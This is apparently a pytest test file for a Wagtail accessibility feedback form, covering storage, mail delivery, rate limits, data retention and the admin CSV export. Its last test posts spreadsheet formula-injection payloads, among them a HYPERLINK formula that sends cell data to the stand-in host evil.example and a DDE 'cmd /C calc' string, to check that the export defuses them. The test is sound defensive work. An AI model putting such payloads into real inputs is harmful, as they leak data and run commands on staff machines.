"""The feedback form of the accessibility statement (FeedbackFormPage): where it may be
created, that it renders and saves what an editor posts, and that a report reaches staff
as a form submission in the admin and by mail through the task queue, also when the mail
server is down; errors named at the top, honeypot, rate limit, and the retention rule."""

import datetime
import io

import pytest
from django.core import mail
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext, ngettext
from wagtail.models import Page
from wagtail.test.utils import WagtailPageTestCase
from wagtail.test.utils.form_data import nested_form_data, rich_text, streamfield

from metropolregion import feedback, outbox
from metropolregion.feedback import retention as feedback_retention
from metropolregion.models import (
    FeedbackFormPage,
    FeedbackSubmission,
    HomePage,
    MailStatus,
    StandardPage,
)
from tests.factories import HomePageFactory
from tests.factories.pages import FeedbackFormPageFactory

pytestmark = pytest.mark.django_db

VALID = {
    "barrier": "Das Menü lässt sich mit der Tastatur nicht öffnen.",
    "page_url": "https://example.org/projekte/",
    "name": "Erika Beispiel",
    "email": "erika@example.org",
    "consent": "on",
}


def de(msgid):
    """A UI string in German (as translated, or the English msgid until it is)."""
    with translation.override("de"):
        return gettext(msgid)


class FeedbackFormPageTreeTest(WagtailPageTestCase):
    def test_below_home_or_standard_page_and_without_children(self):
        self.assertAllowedParentPageTypes(FeedbackFormPage, {HomePage, StandardPage})
        self.assertAllowedSubpageTypes(FeedbackFormPage, set())
        self.assertFalse(FeedbackFormPage.can_create_at(Page.get_first_root_node()))


class FeedbackFormPageAdminTest(WagtailPageTestCase):
    """An editor creates the page in the admin: content, thank-you text and recipients."""

    @classmethod
    def setUpTestData(cls):
        cls.home = HomePageFactory(parent=Page.get_first_root_node())

    def setUp(self):
        self.login()

    def data(self, **overrides):
        return nested_form_data(
            {
                "title": "Erklärung zur Barrierefreiheit",
                "slug": "barrierefreiheit",
                "intro": "Wir wollen, dass alle diese Website nutzen können.",
                "body": streamfield(
                    [("section", {"heading": "Stand", "text": rich_text("<p>Teilweise.</p>")})]
                ),
                "form_heading": "Barriere melden",
                "thank_you_text": rich_text("<p>Danke für Ihre Meldung!</p>"),
                "to_address": "a11y@example.org, redaktion@example.org",
                "from_address": "noreply@example.org",
                "subject": "Neue Meldung",
                **overrides,
            }
        )

    def test_create_with_recipients_and_thank_you_text(self):
        self.assertCanCreate(self.home, FeedbackFormPage, self.data())
        page = FeedbackFormPage.objects.get(slug="barrierefreiheit")
        self.assertEqual(page.to_address, "a11y@example.org, redaktion@example.org")
        self.assertEqual(feedback.recipients(page), ["a11y@example.org", "redaktion@example.org"])
        self.assertIn("Danke für Ihre Meldung!", page.thank_you_text)
        self.assertEqual(page.body[0].block_type, "section")
        self.assertEqual(page.form_heading, "Barriere melden")

    def test_a_page_without_recipient_is_refused(self):
        url = reverse(
            "wagtailadmin_pages:add", args=("metropolregion", "feedbackformpage", self.home.pk)
        )
        response = self.client.post(url, {**self.data(to_address=""), "action-publish": "1"})
        self.assertEqual(response.status_code, 200)
        self.assertFalse(FeedbackFormPage.objects.exists())
        self.assertIn("to_address", response.context["form"].errors)


@pytest.fixture
def page(home_page):
    page = FeedbackFormPageFactory(parent=home_page, slug="barrierefreiheit")
    page.save_revision().publish()
    return page


@pytest.fixture
def post(client, django_capture_on_commit_callbacks):
    """POST like a browser and run what the transaction queued (the mail task)."""

    def send(url, data, **extra):
        with django_capture_on_commit_callbacks(execute=True):
            return client.post(url, data, **extra)

    return send


def main(response):
    html = response.content.decode()
    return html[html.index("<main") : html.index("</main>")]


def test_page_renders_its_content_and_the_form(client, page):
    response = client.get(page.url)
    assert response.status_code == 200
    html = main(response)
    assert "<h1" in html and page.title in html and page.intro in html
    assert "Barriere melden" in html
    for name in ("barrier", "page_url", "name", "email", "consent"):
        assert f'name="{name}"' in html
    assert 'autocomplete="email"' in html
    assert f"({de('optional')})" in html  # name and address are optional, and say so
    with translation.override("de"):  # the retention rule, next to the consent
        rule = ngettext(
            "Your name and address are deleted after %(days)s day.",
            "Your name and address are deleted after %(days)s days.",
            180,
        ) % {"days": 180}
    assert rule in html


def test_valid_report_is_stored_mailed_and_thanked(post, page):
    response = post(page.url, VALID)
    assert response.status_code == 200
    assert "Danke, wir kümmern uns darum." in main(response)  # the editor's thank-you text
    submission = FeedbackSubmission.objects.get()
    assert submission.page_id == page.pk
    assert submission.form_data == {
        "barrier": VALID["barrier"],
        "page_url": VALID["page_url"],
        "name": "Erika Beispiel",
        "email": "erika@example.org",
        "consent": True,
    }
    assert (submission.status, submission.attempts) == (MailStatus.SENT, 1)
    (message,) = mail.outbox
    assert message.to == ["barrierefreiheit@example.org"]
    assert message.reply_to == ["erika@example.org"]
    assert message.subject == f"Meldung einer Barriere: {page.title}"
    assert VALID["barrier"] in message.body and VALID["page_url"] in message.body
    assert f"/admin/forms/submissions/{page.pk}/" in message.body


def test_anonymous_report_without_name_and_address(post, page):
    response = post(page.url, {**VALID, "name": "", "email": ""})
    assert response.status_code == 200
    submission = FeedbackSubmission.objects.get()
    assert submission.form_data["email"] == "" and submission.form_data["name"] == ""
    (message,) = mail.outbox
    assert message.reply_to == []


def test_errors_are_summarised_at_the_top_naming_the_fields(post, page):
    response = post(page.url, {"barrier": "", "page_url": "", "email": "kaputt"})
    assert response.status_code == 200
    assert set(response.context["form"].errors) == {"barrier", "page_url", "email", "consent"}
    html = main(response)
    summary = html[html.index('id="form-errors"') : html.index("</ul>")]
    for field_id, label in (
        ("id_barrier", "What is the barrier?"),
        ("id_page_url", "On which page?"),
        ("id_email", "Your email address"),
        ("id_consent", "I agree that my details are stored to deal with my report."),
    ):
        assert f'<a href="#{field_id}">{de(label)}' in summary
    assert 'aria-invalid="true"' in html
    assert not FeedbackSubmission.objects.exists() and not mail.outbox


def test_honeypot_is_thanked_but_nothing_is_stored_or_sent(post, page):
    response = post(page.url, {**VALID, "website": "https://spam.example"})
    assert response.status_code == 200
    assert de("Thank you for your report") in main(response)
    assert not FeedbackSubmission.objects.exists() and not mail.outbox


def test_rate_limit_per_address(post, page, settings):
    settings.REGISTRATION_RATE_LIMIT = 2
    for _ in range(2):
        assert post(page.url, VALID, REMOTE_ADDR="192.0.2.7").status_code == 200
    response = post(page.url, VALID, REMOTE_ADDR="192.0.2.7")
    assert response.status_code == 429
    assert de(
        "Too many reports from your connection in a short time. Please wait ten minutes and "
        "try again; nothing you entered was stored."
    ) in main(response)
    assert FeedbackSubmission.objects.count() == 2
    assert post(page.url, VALID, REMOTE_ADDR="192.0.2.8").status_code == 200  # someone else


def test_mail_server_down_keeps_the_report_and_sends_it_later(post, page, settings):
    settings.EMAIL_BACKEND = "tests.events.mail_backends.BrokenBackend"
    response = post(page.url, VALID)
    assert response.status_code == 200 and "Danke" in main(response)
    submission = FeedbackSubmission.objects.get()
    assert (submission.status, submission.attempts) == (MailStatus.PENDING, 1)
    assert submission.last_error == "ConnectionRefusedError"
    assert not mail.outbox

    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"  # server is back
    out = io.StringIO()
    call_command("send_pending_mail", stdout=out)
    assert "1 mail(s) sent, 0 still waiting" in out.getvalue()
    submission.refresh_from_db()
    assert (submission.status, submission.attempts) == (MailStatus.SENT, 2)
    assert [m.to for m in mail.outbox] == [["barrierefreiheit@example.org"]]
    call_command("send_pending_mail", stdout=io.StringIO())
    assert len(mail.outbox) == 1  # never twice


def test_mail_is_marked_failed_after_the_last_attempt(post, page, settings):
    settings.EMAIL_BACKEND = "tests.events.mail_backends.BrokenBackend"
    settings.MAIL_ATTEMPTS = 2
    post(page.url, VALID)
    submission = FeedbackSubmission.objects.get()
    assert outbox.deliver(FeedbackSubmission, submission.pk) is False
    submission.refresh_from_db()
    assert (submission.status, submission.attempts) == (MailStatus.FAILED, 2)
    assert (
        outbox.deliver(FeedbackSubmission, submission.pk) is None
    )  # given up; staff still see it in the admin


def test_a_broken_task_queue_loses_no_report(post, page, monkeypatch):
    class BrokenQueue:
        def enqueue(self, *args, **kwargs):
            raise ConnectionError("queue down")

    monkeypatch.setattr("metropolregion.outbox.send_from_outbox", BrokenQueue())
    response = post(page.url, VALID)
    assert response.status_code == 200
    assert FeedbackSubmission.objects.get().status == MailStatus.PENDING
    assert outbox.send_pending() == 1 and len(mail.outbox) == 1


def test_staff_see_the_report_under_forms_in_the_admin(post, page, client, admin_user):
    post(page.url, VALID)
    client.force_login(admin_user)
    forms = client.get(reverse("wagtailforms:index"))
    assert forms.status_code == 200 and page.title in forms.content.decode()
    response = client.get(reverse("wagtailforms:list_submissions", args=[page.pk]))
    assert response.status_code == 200
    html = response.content.decode()
    assert VALID["barrier"] in html and "erika@example.org" in html
    assert de("Sent") in html  # the mail column
    export = client.get(reverse("wagtailforms:list_submissions", args=[page.pk]) + "?export=csv")
    assert VALID["page_url"] in export.getvalue().decode()


def test_preview_of_form_and_landing_page(client, admin_user, page):
    client.force_login(admin_user)
    for mode in ("form", "landing"):
        url = reverse("wagtailadmin_pages:preview_on_edit", args=[page.pk])
        response = client.get(url + f"?mode={mode}")
        assert response.status_code == 200, mode


def test_retention_deletes_name_and_address_but_keeps_the_report(post, page, settings):
    settings.FEEDBACK_RETENTION_DAYS = 30
    post(page.url, VALID)
    post(page.url, {**VALID, "email": "neu@example.org"})
    old, new = FeedbackSubmission.objects.order_by("pk")
    FeedbackSubmission.objects.filter(pk=old.pk).update(
        submit_time=timezone.now() - datetime.timedelta(days=31)
    )
    out = io.StringIO()
    call_command("purge_feedback", stdout=out)
    assert "1 of the feedback reports anonymised" in out.getvalue()
    old.refresh_from_db()
    new.refresh_from_db()
    assert old.form_data["name"] == "" and old.form_data["email"] == ""
    assert old.form_data["barrier"] == VALID["barrier"]  # what was reported stays
    assert old.anonymised_at is not None
    assert new.form_data["email"] == "neu@example.org" and new.anonymised_at is None
    assert feedback_retention.purge_due() == 0  # nothing twice


def test_one_person_is_erased_on_request(post, page):
    post(page.url, VALID)
    post(page.url, {**VALID, "email": "andere@example.org", "name": "Max"})
    call_command("purge_feedback", "--email", "ERIKA@example.org", stdout=io.StringIO())
    emails = sorted(s.form_data["email"] for s in FeedbackSubmission.objects.all())
    assert emails == ["", "andere@example.org"]


def test_demo_turns_an_older_statement_page_into_the_form_page(home_page):
    """A site loaded before the form existed has a standard page at the same slug; loading
    the demo again replaces it (instead of leaving the statement without its form)."""
    from demo.building import upsert as upsert_child
    from tests.factories import StandardPageFactory
    from tests.factories.pages import FeedbackFormPageFactory

    StandardPageFactory(parent=home_page, slug="barrierefreiheit")
    page = upsert_child(
        home_page,
        FeedbackFormPageFactory,
        "barrierefreiheit",
        title="Erklärung zur Barrierefreiheit",
        to_address="barrierefreiheit@example.org",
    )
    assert page.live and isinstance(page, FeedbackFormPage)
    assert not StandardPage.objects.filter(slug="barrierefreiheit").exists()
    assert home_page.get_children().filter(slug="barrierefreiheit").count() == 1


def test_feedback_and_registrations_count_apart(settings, rf):
    """One visitor's registrations do not use up the feedback form's limit."""
    from metropolregion.security import rate_limited

    settings.REGISTRATION_RATE_LIMIT = 1
    visitor = rf.post("/", REMOTE_ADDR="192.0.2.50")
    assert rate_limited(visitor, "registration") is False
    assert rate_limited(visitor, "registration") is True
    assert rate_limited(visitor, "feedback") is False


def test_csv_export_defuses_spreadsheet_formulas(post, page, client, admin_user):
    """Issue 13, finding 9: what anonymous visitors type never runs as a formula when staff
    open the export in a spreadsheet (as in the registrations' CSV)."""
    import csv

    attacks = {
        "barrier": '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
        "page_url": "+1+1",
        "name": "-2+3",
    }
    post(page.url, {**VALID, **attacks})
    post(page.url, {**VALID, "barrier": "@SUM(1+1)*cmd|' /C calc'!A0", "name": "\tTab"})
    client.force_login(admin_user)
    export = client.get(reverse("wagtailforms:list_submissions", args=[page.pk]) + "?export=csv")
    rows = list(csv.reader(export.getvalue().decode().splitlines()))
    cells = [cell for row in rows[1:] for cell in row]
    for typed in (*attacks.values(), "@SUM(1+1)*cmd|' /C calc'!A0"):
        assert "'" + typed in cells, typed
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert VALID["page_url"] in cells and "erika@example.org" in cells  # the rest unchanged
